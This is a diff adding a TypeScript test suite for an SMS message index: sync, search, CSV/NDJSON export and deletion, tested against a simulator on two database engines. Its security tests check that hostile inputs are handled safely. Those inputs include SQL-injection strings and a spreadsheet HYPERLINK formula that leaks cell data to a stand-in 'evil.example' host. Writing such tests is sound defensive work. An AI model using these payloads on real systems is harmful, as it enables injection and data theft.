@@ -1,0 +1,532 @@
+import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import { parse as parseCsv } from 'csv-parse/sync'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import type { IndexStatus, SearchResult, StatsResult, ThreadResult } from '../../contract/index-api.ts'
+import type { OpenedDb } from '../db/open.ts'
+import { ENGINES, useEngines } from '../db/test-engines.ts'
+import { createForwarder, type Forwarder } from '../forward.ts'
+import type { RequestContext } from '../http-types.ts'
+import { DEMO_CREDENTIALS } from '../simulator/dataset.ts'
+import { createSimulator, type Simulator } from '../simulator/simulator.ts'
+import { parseIndexConfig } from './config.ts'
+import { apiDateToIso } from './parse.ts'
+import { createIndex, type MessageIndex } from './routes.ts'
+import { createSyncer } from './sync.ts'
+
+/**
+ * The message index against both engines (PGlite and a real PostgreSQL server), syncing from
+ * the simulator over HTTP and answering over HTTP. Ground truth is the simulator's own history,
+ * fetched whole and filtered here.
+ */
+
+const engines = useEngines()
+
+interface SimMessage {
+  system_id: number
+  message_id: string
+  GMTdate: string
+  phone: string
+  direction: string
+  body: string
+  mms: string
+  status: string
+}
+interface Listed {
+  number: string
+  tid: string
+}
+
+async function post(url: string, path: string, body: unknown) {
+  const r = await fetch(`${url}${path}`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) })
+  if (!r.ok) throw new Error(`${path}: ${r.status} ${await r.text()}`)
+}
+
+/** Wraps the real forwarder to count history requests and act between pages. */
+function hooked(fw: Forwarder, onHistory: (n: number) => Promise<void> | void) {
+  let n = 0
+  const wrapped: Forwarder & { count: () => number } = {
+    forward: async (op, fields, signal) => {
+      if (op === 'smshistory') {
+        n += 1
+        await onHistory(n)
+      }
+      return fw.forward(op, fields, signal)
+    },
+    close: () => fw.close(),
+    count: () => n,
+  }
+  return wrapped
+}
+
+describe.each(ENGINES)('message index on %s', (engine) => {
+  let sim: Simulator
+  let simServer: Server
+  let simUrl: string
+  let fw: Forwarder
+  let numbers: Listed[]
+  let db: OpenedDb
+  let index: MessageIndex
+  let api: Server
+  let apiUrl: string
+  const audits: Array<[string, Record<string, unknown>]> = []
+
+  const num = (i: number) => numbers[i]!
+  const truth = async (i: number): Promise<SimMessage[]> => {
+    const { number, tid } = num(i)
+    const probe = JSON.parse((await fw.forward('smshistory', [['number', number], ['tid', tid], ['history_start', '1'], ['history_end', '1']])).body.toString()) as { total_message_count: number }
+    const all = JSON.parse(
+      (await fw.forward('smshistory', [['number', number], ['tid', tid], ['history_start', '1'], ['history_end', String(Math.max(1, probe.total_message_count))]])).body.toString(),
+    ) as { messages: SimMessage[] }
+    return probe.total_message_count === 0 ? [] : all.messages
+  }
+  const get = async <T,>(path: string): Promise<{ status: number; body: T }> => {
+    const r = await fetch(`${apiUrl}${path}`)
+    return { status: r.status, body: (await r.json()) as T }
+  }
+  const syncNow = async (i: number, pageCap: number, forwarder: Forwarder = fw) => {
+    const s = createSyncer({ db, forwarder, pageCap, concurrency: 2, rate: 0, backoffMs: 20, maxRetries: 2 })
+    await s.request({ number: num(i).number, tid: num(i).tid })
+    await s.idle()
+    await s.close()
+    return s
+  }
+  /** Stored ordinals are the simulator's sequence numbers: system_id encodes seq for normal numbers. */
+  const checkExact = async (i: number, expectedTotal: number) => {
+    const r = await db.query<{ n: number; d: number; lo: number; hi: number; bad: number }>(
+      `SELECT count(*)::int AS n, count(DISTINCT ordinal)::int AS d, min(ordinal) AS lo, max(ordinal) AS hi,
+              count(*) FILTER (WHERE system_id::bigint - 200000000000 - $2::bigint * 2000000 <> ordinal)::int AS bad
+       FROM index_messages WHERE number = $1`,
+      [num(i).number, i],
+    )
+    expect(r.rows[0]).toEqual({ n: expectedTotal, d: expectedTotal, lo: 1, hi: expectedTotal, bad: 0 })
+    const st = await db.query<{ indexed: number; state: string; full_done: boolean }>('SELECT indexed, state, full_done FROM index_numbers WHERE number = $1', [num(i).number])
+    expect(st.rows[0]).toEqual({ indexed: expectedTotal, state: 'idle', full_done: true })
+  }
+
+  beforeAll(async () => {
+    sim = createSimulator({ control: true })
+    ;({ server: simServer, url: simUrl } = await sim.listen(0, '127.0.0.1'))
+    fw = createForwarder({ baseUrl: simUrl, ...DEMO_CREDENTIALS }, 10_000)
+    numbers = (JSON.parse((await fw.forward('allownednumbers', [])).body.toString()) as { data: Listed[] }).data
+    db = await engines.open(engine)
+    index = await createIndex(parseIndexConfig({ SYNC_RATE: '0', HISTORY_PAGE_CAP: '500' }), { forwarder: fw, db })
+    const ctx: RequestContext = { principal: { name: 'local', role: 'admin', via: 'local' }, address: '127.0.0.1', audit: (a, d) => void audits.push([a, d]) }
+    api = createServer((req: IncomingMessage, res: ServerResponse) => {
+      const url = new URL(req.url ?? '/', 'http://127.0.0.1')
+      const route = index.routes.filter((r) => url.pathname.startsWith(r.prefix)).sort((a, b) => b.prefix.length - a.prefix.length)[0]
+      if (!route) return res.writeHead(404).end()
+      route.handle(req, res, url, ctx).catch((err: unknown) => {
+        if (!res.headersSent) res.writeHead(500).end(JSON.stringify({ error: { kind: 'server_error', message: String(err) } }))
+        else res.destroy()
+      })
+    })
+    await new Promise<void>((ok) => api.listen(0, '127.0.0.1', ok))
+    apiUrl = `http://127.0.0.1:${(api.address() as AddressInfo).port}`
+  }, 60_000)
+
+  afterAll(async () => {
+    await index?.close()
+    api?.closeAllConnections()
+    await new Promise<void>((ok) => (api ? api.close(() => ok()) : ok()))
+    await fw?.close()
+    simServer?.closeAllConnections()
+    await new Promise<void>((ok) => (simServer ? simServer.close(() => ok()) : ok()))
+  })
+
+  describe('sync', () => {
+    it('indexes a history exactly: count = upstream total, ordinals 1..n, duplicate message ids kept', async () => {
+      await syncNow(0, 100)
+      await checkExact(0, 2345)
+      const dup = await db.query<{ n: number; d: number }>('SELECT count(*)::int AS n, count(DISTINCT message_id)::int AS d FROM index_messages WHERE number = $1', [num(0).number])
+      // The simulator repeats a neighbour's message_id once in 97 records.
+      expect(dup.rows[0]!.n - dup.rows[0]!.d).toBe(Math.floor(2345 / 97))
+      // The daily roll-up holds the same messages.
+      const roll = await db.query<{ n: number }>('SELECT COALESCE(sum(inbound + outbound), 0)::int AS n FROM index_daily WHERE number = $1', [num(0).number])
+      expect(roll.rows[0]!.n).toBe(2345)
+      // A second sync with nothing new costs one request (the envelope probe).
+      const again = hooked(fw, () => {})
+      await syncNow(0, 100, again)
+      expect(again.count()).toBe(1)
+    })
+
+    it('stays exact when messages arrive between pages of a full sync', async () => {
+      const i = 4
+      // Messages land between pages 2 and 3, and again between pages 5 and 6 (within and beyond the overlap).
+      const drift = hooked(fw, async (n) => {
+        if (n === 3) await post(simUrl, '/__sim/messages', { number: num(i).number, add: 7 })
+        if (n === 6) await post(simUrl, '/__sim/messages', { number: num(i).number, add: 60 })
+      })
+      await syncNow(i, 50, drift)
+      await checkExact(i, 420 + 67)
+      // An incremental sync after 30 more: the probe and one page.
+      await post(simUrl, '/__sim/messages', { number: num(i).number, add: 30 })
+      const inc = hooked(fw, () => {})
+      await syncNow(i, 50, inc)
+      expect(inc.count()).toBe(2)
+      await checkExact(i, 420 + 97)
+    })
+
+    it('resumes from its checkpoint after being stopped mid-sync', async () => {
+      const i = 5
+      let first: ReturnType<typeof createSyncer> | null = null
+      const killer = hooked(fw, (n) => {
+        if (n === 9) void first?.close()
+      })
+      first = createSyncer({ db, forwarder: killer, pageCap: 200, concurrency: 1, rate: 0 })
+      await first.request({ number: num(i).number, tid: num(i).tid })
+      await first.idle()
+      const mid = await db.query<{ indexed: number; cp_next: number; state: string }>('SELECT indexed, cp_next, state FROM index_numbers WHERE number = $1', [num(i).number])
+      expect(mid.rows[0]!.state).toBe('queued')
+      expect(mid.rows[0]!.indexed).toBeGreaterThanOrEqual(1000)
+      expect(mid.rows[0]!.indexed).toBeLessThan(5000)
+      expect(mid.rows[0]!.cp_next).toBe(5000 - mid.rows[0]!.indexed)
+      // A new syncer (a restarted server) continues: the pages left, one overlap page and the probe.
+      const second = hooked(fw, () => {})
+      await syncNow(i, 200, second)
+      await checkExact(i, 5000)
+      const pagesLeft = Math.ceil(mid.rows[0]!.cp_next / 200)
+      expect(second.count()).toBeLessThanOrEqual(pagesLeft + 2)
+    })
+
+    it('pauses with the reason when the upstream rejects mid-sync, and resumes later', async () => {
+      const i = 3
+      const rejecting = hooked(fw, async (n) => {
+        if (n === 2) await post(simUrl, '/__sim/faults', { kind: 'reject', op: 'smshistory', number: num(i).number, message: 'Account suspended for review' })
+      })
+      await syncNow(i, 10, rejecting)
+      const st = await db.query<{ state: string; error: string; indexed: number }>('SELECT state, error, indexed FROM index_numbers WHERE number = $1', [num(i).number])
+      expect(st.rows[0]!.state).toBe('paused')
+      expect(st.rows[0]!.error).toContain('Account suspended for review')
+      expect(st.rows[0]!.indexed).toBe(10)
+      await fetch(`${simUrl}/__sim/faults`, { method: 'DELETE' })
+      await syncNow(i, 10)
+      await checkExact(i, 36)
+    })
+
+    it('backs off and retries on 5xx, honouring Retry-After', async () => {
+      const i = 2
+      await post(simUrl, '/__sim/faults', { kind: 'status', status: 503, retryAfter: 0, op: 'smshistory', number: num(i).number, times: 2 })
+      await syncNow(i, 10)
+      await checkExact(i, 1)
+    })
+
+    it('two syncers on one database sync a number once: one holds the lock, the end state is exact', async () => {
+      const i = 0
+      await fetch(`${apiUrl}/api/index/forget`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ number: num(i).number }) })
+      const other = engine === 'postgres' ? await engines.reopen(db) : db
+      const fa = hooked(fw, () => new Promise((r) => setTimeout(r, 5)))
+      const fb = hooked(fw, () => new Promise((r) => setTimeout(r, 5)))
+      const a = createSyncer({ db, forwarder: fa, pageCap: 100, concurrency: 1, rate: 0 })
+      const b = createSyncer({ db: other, forwarder: fb, pageCap: 100, concurrency: 1, rate: 0 })
+      await Promise.all([a.request({ number: num(i).number, tid: num(i).tid }), b.request({ number: num(i).number, tid: num(i).tid })])
+      await Promise.all([a.idle(), b.idle()])
+      await a.close()
+      await b.close()
+      await checkExact(i, 2345)
+      // One of them walked the history (24 pages and the probe); the other was refused the lock.
+      expect(Math.min(fa.count(), fb.count())).toBe(0)
+      expect(Math.max(fa.count(), fb.count())).toBe(25)
+    })
+
+    it('stops with a clear state when a history comes oldest first', async () => {
+      // A real HTTP upstream that answers in ascending date order.
+      const asc = createServer((req, res) => {
+        let body = ''
+        req.on('data', (c: Buffer) => (body += c.toString()))
+        req.on('end', () => {
+          const f = new URLSearchParams(body)
+          const start = Number(f.get('history_start'))
+          const end = Math.min(Number(f.get('history_end')), 30)
+          const messages = []
+          for (let p = start; p <= end; p++)
+            messages.push({ system_id: p, message_id: `m${p}`, GMTdate: `2026-01-01 00:00:${String(p).padStart(2, '0')}`, tid: 'T', phone: '15550001111', direction: 'inbound', body: 'x', mms: 'no', mms_url: '', status: '200' })
+          res.writeHead(200, { 'content-type': 'application/json' })
+          res.end(JSON.stringify({ success: '1', total_message_count: 30, messages }))
+        })
+      })
+      await new Promise<void>((ok) => asc.listen(0, '127.0.0.1', ok))
+      const ascFw = createForwarder({ baseUrl: `http://127.0.0.1:${(asc.address() as AddressInfo).port}`, sysId: 'x', authToken: 'y' }, 5000)
+      const s = createSyncer({ db, forwarder: ascFw, pageCap: 10, concurrency: 1, rate: 0 })
+      await s.request({ number: '15550009999', tid: 'ASC1' })
+      await s.idle()
+      await s.close()
+      await ascFw.close()
+      asc.closeAllConnections()
+      asc.close()
+      const st = await db.query<{ state: string; error: string; indexed: number }>('SELECT state, error, indexed FROM index_numbers WHERE number = $1', ['15550009999'])
+      expect(st.rows[0]).toMatchObject({ state: 'error', indexed: 0 })
+      expect(st.rows[0]!.error).toMatch(/oldest first/)
+      await db.query(`DELETE FROM index_numbers WHERE number = '15550009999'`)
+    })
+  })
+
+  describe('queries over HTTP', () => {
+    let all: Array<SimMessage & { number: string; ordinal: number }>
+    beforeAll(async () => {
+      // Numbers 0, 3, 4, 5 and 7 (hostile texts) indexed; ground truth from the simulator itself.
+      await syncNow(7, 10)
+      for (const i of [0, 3, 4, 5]) await syncNow(i, 500)
+      all = []
+      // Number 2 (one message) was indexed by the retry test above.
+      for (const i of [0, 2, 3, 4, 5, 7]) {
+        const msgs = await truth(i)
+        msgs.forEach((m, k) => all.push({ ...m, number: num(i).number, ordinal: msgs.length - k }))
+      }
+    }, 60_000)
+
+    const searchAll = async (qs: string) => {
+      const rows: SearchResult['rows'] = []
+      let cursor: string | null = null
+      let total = -1
+      for (let guard = 0; guard < 100; guard++) {
+        const r: { status: number; body: SearchResult } = await get<SearchResult>(`/api/index/search?${qs}&limit=500${cursor ? `&cursor=${cursor}` : ''}`)
+        expect(r.status).toBe(200)
+        total = r.body.total
+        rows.push(...r.body.rows)
+        cursor = r.body.nextCursor
+        if (!cursor) break
+      }
+      return { total, rows }
+    }
+    const expectSame = async (qs: string, pred: (m: SimMessage & { number: string }) => boolean) => {
+      const { total, rows } = await searchAll(qs)
+      const expected = all.filter(pred)
+      expect(total).toBe(expected.length)
+      expect(rows.length).toBe(expected.length)
+      // Every match exactly once, newest first.
+      const keys = new Set(rows.map((r) => `${r.number}:${r.ordinal}`))
+      expect(keys.size).toBe(rows.length)
+      for (const m of expected) expect(keys.has(`${m.number}:${m.ordinal}`)).toBe(true)
+      for (let k = 1; k < rows.length; k++) expect(rows[k - 1]!.date! >= rows[k]!.date!).toBe(true)
+      return rows
+    }
+
+    it('status lists every number with counts and freshness', async () => {
+      const r = await get<IndexStatus>('/api/index/status')
+      expect(r.status).toBe(200)
+      expect(r.body.enabled).toBe(true)
+      expect(r.body.engine).toBe(engine)
+      const n0 = r.body.numbers.find((n) => n.number === num(0).number)!
+      expect(n0).toMatchObject({ state: 'idle', indexed: 2345, upstreamTotal: 2345, error: null, progress: null })
+      expect(n0.newestDate).toBe(apiDateToIso(all.find((m) => m.number === num(0).number)!.GMTdate))
+      expect(r.body.freshness.numbersKnown).toBeGreaterThanOrEqual(5)
+      expect(typeof r.body.freshness.indexedUpTo).toBe('string')
+    })
+
+    it('searches bodies case-insensitively, Unicode included, with exact counts and keyset paging', async () => {
+      const rows = await expectSame('q=APPOINTMENT', (m) => m.body.toLowerCase().includes('appointment'))
+      expect(rows.length).toBeGreaterThan(500) // more than one page
+      await expectSame(`q=${encodeURIComponent('שלום')}`, (m) => m.body.includes('שלום'))
+      await expectSame(`q=${encodeURIComponent('مرحبا')}`, (m) => m.body.includes('مرحبا'))
+      await expectSame(`q=${encodeURIComponent('👍')}`, (m) => m.body.includes('👍'))
+      // Each result carries its number, ordinal and position, so the UI can link to its page.
+      const one = (await get<SearchResult>(`/api/index/search?q=appointment&numbers=${num(3).number}&limit=1`)).body.rows[0]!
+      expect(one.position).toBe(36 - one.ordinal + 1)
+    })
+
+    it('matches the other party by digits, partial and formatted', async () => {
+      const party = all.find((m) => m.number === num(0).number)!.phone
+      const partial = party.slice(4, 10) // e.g. "555014" of 1917555014x
+      const formatted = `(${party.slice(1, 4)}) ${party.slice(4, 7)}-${party.slice(7)}`
+      await expectSame(`party=${encodeURIComponent(formatted)}`, (m) => m.phone.includes(party.slice(1)))
+      await expectSame(`party=${encodeURIComponent(partial.slice(0, 3) + '-' + partial.slice(3))}`, (m) => m.phone.includes(partial))
+    })
+
+    it('filters by direction, status, media, dates and numbers', async () => {
+      const n0 = num(0).number
+      const n4 = num(4).number
+      await expectSame(`numbers=${n0}&direction=inbound`, (m) => m.number === n0 && m.direction !== 'outbound')
+      await expectSame(`numbers=${n0},${n4}&status=error`, (m) => (m.number === n0 || m.number === n4) && /^4\d\d|^5\d\d/.test(m.status))
+      await expectSame('status=503', (m) => m.status.startsWith('503'))
+      await expectSame(`numbers=${n4}&media=yes`, (m) => m.number === n4 && m.mms === 'yes')
+      const day = all.find((m) => m.number === n0)!.GMTdate.slice(0, 10)
+      await expectSame(`numbers=${n0}&from=${day}&to=${day}`, (m) => m.number === n0 && m.GMTdate.slice(0, 10) === day)
+      await expectSame(`status=success&from=${day}T06:00:00Z`, (m) => /^2\d\d/.test(m.status) && apiDateToIso(m.GMTdate)! >= `${day}T06:00:00Z`)
+      // No filter: the whole index, counted from the numbers table.
+      const r = await get<SearchResult>('/api/index/search?limit=3')
+      expect(r.body.total).toBe(all.length)
+    })
+
+    it('treats hostile text as text: wildcards, backslashes, quotes, RTL; refuses NUL and 10 KB', async () => {
+      for (const q of ['%', '_', '\\', "'", '"', "' OR 1=1 --", '%_\\%', 'a%b', '\u202Egnp']) {
+        await expectSame(`q=${encodeURIComponent(q)}`, (m) => m.body.toLowerCase().includes(q.toLowerCase()))
+      }
+      const nul = await get<{ error: { kind: string; field: string } }>(`/api/index/search?q=${encodeURIComponent('a\u0000b')}`)
+      expect(nul.status).toBe(400)
+      expect(nul.body.error).toMatchObject({ kind: 'invalid_request', field: 'q' })
+      const big = await get<{ error: { field: string } }>(`/api/index/search?q=${'x'.repeat(10_000)}`)
+      expect(big.status).toBe(400)
+      expect(big.body.error.field).toBe('q')
+      for (const [qs, field] of [
+        ['limit=501', 'limit'],
+        ['limit=0', 'limit'],
+        ['direction=sideways', 'direction'],
+        ['status=failed', 'status'],
+        ['from=2026-02-31', 'from'],
+        ['numbers=12;DROP', 'numbers'],
+        ['cursor=not-a-cursor', 'cursor'],
+        ['party=abc', 'party'],
+        ['q=a&q=b', 'q'],
+        ['bogus=1', 'bogus'],
+      ] as const) {
+        const r = await get<{ error: { kind: string; field: string } }>(`/api/index/search?${qs}`)
+        expect(r.status, qs).toBe(400)
+        expect(r.body.error, qs).toMatchObject({ kind: 'invalid_request', field })
+      }
+    })
+
+    it('serves a whole thread with one party, newest first, paged', async () => {
+      const n0 = num(0).number
+      const party = all.find((m) => m.number === n0)!.phone
+      const expected = all.filter((m) => m.number === n0 && m.phone === party)
+      const seen: ThreadResult['rows'] = []
+      let before: string | null = null
+      let first: ThreadResult | null = null
+      for (let guard = 0; guard < 50; guard++) {
+        const r: { status: number; body: ThreadResult } = await get<ThreadResult>(`/api/index/thread?number=${n0}&party=${party}&limit=200${before ? `&before=${before}` : ''}`)
+        expect(r.status).toBe(200)
+        first ??= r.body
+        seen.push(...r.body.rows)
+        before = r.body.nextCursor
+        if (!before) break
+      }
+      expect(first!.total).toBe(expected.length)
+      expect(seen.length).toBe(expected.length)
+      expect(first!.lastDate).toBe(apiDateToIso(expected[0]!.GMTdate))
+      expect(first!.firstDate).toBe(apiDateToIso(expected[expected.length - 1]!.GMTdate))
+      expect(seen.map((r) => r.ordinal)).toEqual(expected.map((m) => m.ordinal))
+      expect(audits.some(([a, d]) => a === 'thread.view' && d.party === party)).toBe(true)
+      const parties = await get<{ parties: Array<{ party: string; count: number }> }>(`/api/index/parties?number=${n0}`)
+      expect(parties.body.parties.find((p) => p.party === party)?.count).toBe(expected.length)
+      expect(parties.body.parties.reduce((s, p) => s + p.count, 0)).toBe(2345)
+    })
+
+    it('answers stats by day and week from the roll-up', async () => {
+      const n5 = num(5).number
+      const mine = all.filter((m) => m.number === n5)
+      const byDay = new Map<string, { inbound: number; outbound: number; failed: number }>()
+      for (const m of mine) {
+        const d = m.GMTdate.slice(0, 10)
+        const b = byDay.get(d) ?? { inbound: 0, outbound: 0, failed: 0 }
+        if (m.direction === 'outbound') b.outbound++
+        else b.inbound++
+        if (/^[45]\d\d/.test(m.status)) b.failed++
+        byDay.set(d, b)
+      }
+      const r = await get<StatsResult>(`/api/index/stats?number=${n5}&bucket=day`)
+      expect(r.status).toBe(200)
+      expect(r.body.buckets).toEqual([...byDay.entries()].sort(([a], [b]) => a.localeCompare(b)).map(([day, v]) => ({ day, ...v })))
+      const w = await get<StatsResult>(`/api/index/stats?number=${n5}&bucket=week`)
+      expect(w.body.buckets.reduce((s, b) => s + b.inbound + b.outbound, 0)).toBe(5000)
+      for (const b of w.body.buckets) expect(new Date(`${b.day}T00:00:00Z`).getUTCDay()).toBe(1) // weeks start on Monday
+      const acct = await get<StatsResult>('/api/index/stats?bucket=day')
+      expect(acct.body.buckets.reduce((s, b) => s + b.inbound + b.outbound, 0)).toBe(all.length)
+      expect((await get('/api/index/stats?bucket=month')).status).toBe(400)
+    })
+
+    it('locates the newest message of a day and serves one message', async () => {
+      const n0 = num(0).number
+      const mine = all.filter((m) => m.number === n0)
+      const target = mine[1500]!
+      const day = target.GMTdate.slice(0, 10)
+      const expected = mine.find((m) => m.GMTdate.slice(0, 10) <= day)!
+      const r = await get<{ message: { ordinal: number; position: number }; total: number }>(`/api/index/locate?number=${n0}&date=${day}`)
+      expect(r.status).toBe(200)
+      expect(r.body.message.ordinal).toBe(expected.ordinal)
+      expect(r.body.message.position).toBe(2345 - expected.ordinal + 1)
+      const before = await get<{ message: null }>(`/api/index/locate?number=${n0}&date=2001-01-01`)
+      expect(before.body.message).toBeNull()
+      const one = await get<{ message: { body: string; systemId: string; statusCode: number } }>(`/api/index/message?number=${n0}&ordinal=${target.ordinal}`)
+      expect(one.body.message).toMatchObject({ body: target.body, systemId: String(target.system_id) })
+      expect((await get(`/api/index/message?number=${n0}&ordinal=999999`)).status).toBe(404)
+    })
+
+    it('exports CSV (RFC 4180, BOM, neutralised formulas, two date columns) and NDJSON, streamed', async () => {
+      const n7 = num(7).number
+      const r = await fetch(`${apiUrl}/api/index/export?numbers=${n7}&format=csv&tz=Europe/Paris`)
+      expect(r.status).toBe(200)
+      expect(r.headers.get('content-disposition')).toMatch(new RegExp(`attachment; filename="switchboard-messages-${n7}-24-rows-\\d{4}-\\d{2}-\\d{2}\\.csv"`))
+      const bytes = Buffer.from(await r.arrayBuffer())
+      expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]) // the BOM
+      const rows = parseCsv(bytes.subarray(3).toString('utf8'), { columns: true }) as Array<Record<string, string>>
+      expect(rows.length).toBe(24)
+      const bodies = rows.map((x) => x.body!)
+      expect(bodies).toContain(`'=HYPERLINK("https://evil.example/?leak="&A1,"Click")`)
+      expect(bodies).toContain("'@SUM(A1:A2)")
+      expect(bodies).toContain('nulbyte')
+      expect(rows[0]!.date_utc).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z$/)
+      // 2026-11-20 is winter time in Paris: UTC+1.
+      const utc = Date.parse(rows[0]!.date_utc!)
+      expect(rows[0]!['date_local (Europe/Paris)']).toBe(new Date(utc + 3_600_000).toISOString().slice(0, 19).replace('T', ' '))
+      expect(audits.some(([a, d]) => a === 'export' && d.rows === 24)).toBe(true)
+
+      const filtered = await fetch(`${apiUrl}/api/index/export?q=appointment&numbers=${num(0).number}&format=ndjson`)
+      expect(filtered.headers.get('content-disposition')).toMatch(/text-appointment-\d+-rows/)
+      const lines = (await filtered.text()).trim().split('\n').map((l) => JSON.parse(l) as { body: string })
+      expect(lines.length).toBe(all.filter((m) => m.number === num(0).number && m.body.toLowerCase().includes('appointment')).length)
+      expect((await fetch(`${apiUrl}/api/index/export?tz=Mars/Olympus`)).status).toBe(400)
+      expect((await fetch(`${apiUrl}/api/index/export?format=xlsx`)).status).toBe(400)
+
+      // The whole index, read by a client that stops early: the server lets go.
+      const ctrl = new AbortController()
+      const big = await fetch(`${apiUrl}/api/index/export?format=csv`, { signal: ctrl.signal })
+      const reader = big.body!.getReader()
+      await reader.read()
+      ctrl.abort()
+      await reader.cancel().catch(() => {})
+      const after = await get<IndexStatus>('/api/index/status')
+      expect(after.status).toBe(200)
+    })
+
+    it('forgets one number, then all, with the roll-up and sync state', async () => {
+      const n3 = num(3).number
+      const forget = (body: unknown) => fetch(`${apiUrl}/api/index/forget`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) })
+      expect((await forget({})).status).toBe(400)
+      const r = await forget({ number: n3 })
+      expect(r.status).toBe(200)
+      expect(await r.json()).toEqual({ forgotten: 36 })
+      expect((await get<SearchResult>(`/api/index/search?numbers=${n3}&q=a`)).body.total).toBe(0)
+      expect((await get<StatsResult>(`/api/index/stats?number=${n3}`)).body.buckets).toEqual([])
+      const st = await get<IndexStatus>('/api/index/status')
+      expect(st.body.numbers.find((n) => n.number === n3)).toMatchObject({ state: 'never', indexed: 0, lastSyncedAt: null })
+      expect(st.body.freshness.incomplete).toContain(n3)
+      const everything = await forget({ all: true })
+      expect(((await everything.json()) as { forgotten: number }).forgotten).toBe(all.length - 36)
+      const left = await db.query<{ n: number }>('SELECT (SELECT count(*) FROM index_messages) + (SELECT count(*) FROM index_daily) + (SELECT count(*) FROM index_parties) AS n')
+      expect(Number(left.rows[0]!.n)).toBe(0)
+      expect(audits.some(([a]) => a === 'forget')).toBe(true)
+    })
+  })
+})
+
+describe('INDEX=off', () => {
+  it('answers every index path with 503 index_off', async () => {
+    const sim = createSimulator()
+    const { server, url } = await sim.listen(0, '127.0.0.1')
+    const fw = createForwarder({ baseUrl: url, ...DEMO_CREDENTIALS }, 2000)
+    const index = await createIndex(parseIndexConfig({ INDEX: 'off' }), { forwarder: fw })
+    expect(index.db).toBeNull()
+    const api = createServer((req, res) => {
+      const u = new URL(req.url ?? '/', 'http://x')
+      void index.routes[0]!.handle(req, res, u, { principal: { name: 'local', role: 'admin', via: 'local' }, address: '127.0.0.1', audit: () => {} })
+    })
+    await new Promise<void>((ok) => api.listen(0, '127.0.0.1', ok))
+    const r = await fetch(`http://127.0.0.1:${(api.address() as AddressInfo).port}/api/index/search?q=x`)
+    expect(r.status).toBe(503)
+    expect(await r.json()).toEqual({ error: { kind: 'index_off', message: 'The message index is off (INDEX=off); search needs it.' } })
+    api.closeAllConnections()
+    api.close()
+    await index.close()
+    await fw.close()
+    server.close()
+  })
+
+  it('reports every bad variable by name', () => {
+    const bad = () => parseIndexConfig({ INDEX: 'maybe', SYNC_RATE: '-1', DATABASE_URL: 'mysql://x', SYNC_CONCURRENCY: '99' })
+    expect(bad).toThrow(/INDEX must be on or off/)
+    expect(bad).toThrow(/SYNC_RATE must be a whole number/)
+    expect(bad).toThrow(/DATABASE_URL must be a postgres:\/\/ URL/)
+    expect(bad).toThrow(/SYNC_CONCURRENCY must be between 1 and 16/)
+  })
+})
